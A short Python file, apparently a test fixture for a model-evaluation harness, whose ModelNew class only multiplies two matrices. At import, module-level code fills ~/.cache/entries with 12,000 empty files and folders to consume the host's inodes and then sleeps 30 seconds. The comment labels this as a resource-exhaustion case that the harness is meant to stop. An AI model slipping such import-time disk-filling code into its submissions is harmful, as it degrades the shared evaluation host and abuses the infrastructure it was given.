import os
import time

import torch.nn as nn

# Fills its build cache with empty folders and files while it "builds": 0 bytes by their sizes, but
# every one an inode and a block of the host's disk. The harness stops it while it runs, not after.
_cache = os.path.join(os.environ["HOME"], ".cache", "entries")
for index in range(600):
    folder = os.path.join(_cache, str(index))
    os.makedirs(folder, exist_ok=True)
    for name in range(20):
        open(os.path.join(folder, str(name)), "w").close()
time.sleep(30)


class ModelNew(nn.Module):
    def forward(self, A, B):
        return A @ B
